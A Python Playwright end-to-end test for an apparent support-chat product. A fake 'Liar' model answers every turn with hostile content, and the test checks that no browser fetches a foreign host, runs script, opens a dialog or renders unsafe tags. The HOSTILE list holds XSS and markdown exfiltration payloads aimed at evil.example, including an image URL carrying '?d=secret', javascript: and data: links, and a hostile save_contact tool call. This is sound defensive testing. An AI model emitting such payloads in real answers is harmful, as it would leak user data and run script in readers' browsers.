"""Everybody lies: the model, the visitor, the knowledge. No browser asks a foreign host for anything."""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.async_api import BrowserContext, Request

from tests.e2e.inbox.test_inbox import signed_in
from tests.e2e.stage import chromium, demo, eventually, visitor
from tests.fakes.messages_api import FakeMessagesApi
from tests.fakes.messages_rules import Json
from tests.fakes.messages_script import Answer, Text, ToolUse

pytestmark = [pytest.mark.browser, pytest.mark.timeout(120)]  # ten answers, and every screen
EVIL = "https://evil.example/x"
HOSTILE = [
    f"![a]({EVIL}.png?d=secret)",
    f"[Click here]({EVIL}) or <{EVIL}> or {EVIL} now",
    f"<img src={EVIL} onerror=alert(1)><script src={EVIL}></script>",
    f"<iframe src='{EVIL}'></iframe><link rel=stylesheet href={EVIL}><style>@import '{EVIL}'</style>",
    f"[a][1]\n\n[1]: {EVIL} 'x'",
    "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>)",
    f"A colleague will call you in a minute. ![]({EVIL})",
    f"//evil.example/x www.evil.example/x \\\\evil.example\\x https:/\\evil.example {EVIL}",
    f"<svg><image href='{EVIL}'/></svg><video poster={EVIL}></video><body background={EVIL}>",
    f"![![x]({EVIL})]({EVIL}) `{EVIL}` ```\n<img src={EVIL}>\n```",
]
EVERYTHING = "\n\n".join(HOSTILE)


class Wire:
    """Every request of a browser context that leaves this machine."""

    def __init__(self, context: BrowserContext) -> None:
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        context.on("request", self._seen)
        context.on("dialog", lambda dialog: self.dialogs.append(dialog.message))

    def _seen(self, request: Request) -> None:
        address = urlsplit(request.url)
        if address.scheme not in ("data", "blob") and address.hostname not in ("localhost", "127.0.0.1"):
            self.foreign.append(request.url)


class Liar:
    """A model whose every answer, summary, draft and tool call is hostile, each time in another way."""

    def __init__(self) -> None:
        self.asked = 0

    def __call__(self, body: Json) -> Answer:
        said = HOSTILE[self.asked % len(HOSTILE)]
        self.asked += 1
        contact = {"name": EVERYTHING[:150], "email": f"x@evil.example?{EVIL}", "phone": EVIL}
        wants = self.asked % 4 == 0 and "save_contact" in str(body.get("tools"))
        return Answer((Text(f"- {said}"), *([ToolUse("save_contact", contact)] if wants else [])))


async def test_no_browser_asks_a_foreign_host_for_anything(tmp_path: Path) -> None:
    async with (
        FakeMessagesApi() as api,
        demo(tmp_path, ANTHROPIC_API_KEY=api.key, ANTHROPIC_BASE_URL=api.url, DESKBELL_RATE_LIMITS="off") as d,
        chromium() as browser,
    ):
        api.default = liar = Liar()
        v = await visitor(browser, d.url)
        seen = Wire(v.page.context)
        await v.page.evaluate("text => document.title = text", HOSTILE[2])
        await v.open()
        o = await signed_in(browser, d)
        watched = Wire(o.page.context)
        o.page.on("dialog", lambda dialog: watched.dialogs.append(dialog.message))

        for n, words in enumerate(HOSTILE):
            asked = liar.asked
            await v.write(f"How much is a full service, number {n}? {words}")
            await eventually(lambda asked=asked: _more(liar, asked), within=20)
        await v.panel.get_by_label("This did not help").last.wait_for()
        assert await v.panel.locator("img, iframe, script, video, object, embed, link").count() == 0
        links = await v.panel.locator("a").evaluate_all("all => all.map(a => a.href)")
        assert [link for link in links if "evil" in link or not link.startswith("http")] == []

        await v.write(f"I want to talk to a person. {EVERYTHING}")
        await o.page.locator("[data-row]").first.click()
        await o.press(re.compile("^Take"))
        await o.page.locator(".story-ai").wait_for(timeout=20_000)  # it is long, so it is summarised
        await o.page.get_by_role("textbox", name=re.compile("Reply to")).press("Alt+s")
        await o.page.locator(".ghost").wait_for()
        for why in await o.page.get_by_text("Why did it say that?").all():
            await why.click()

        await o.page.goto(f"{d.url}/knowledge/test")
        await o.page.get_by_label("Question").fill(HOSTILE[0])
        await o.press("Ask")
        await o.page.get_by_label("Why", exact=True).wait_for()
        await o.press("Make it a test question")
        await o.page.get_by_text("Among the").wait_for()
        await o.page.goto(f"{d.url}/knowledge/questions")
        await o.press("Ask them all")
        await o.page.locator(".golden-mark:not(.golden-new)").wait_for(timeout=20_000)
        await o.page.locator(".golden summary").click()
        for tag in ("img", "iframe", "video", "object", "embed"):
            assert await o.page.locator(tag).count() == 0
        assert (seen.foreign, watched.foreign, seen.dialogs, watched.dialogs) == ([], [], [], [])
        assert (v.errors, o.errors) == ([], [])
        await o.page.goto("about:blank")
        await o.page.evaluate("address => fetch(address).catch(() => null)", EVIL)
        assert watched.foreign == [EVIL]  # the wire does trip


async def _more(liar: Liar, asked: int) -> bool:
    return liar.asked > asked
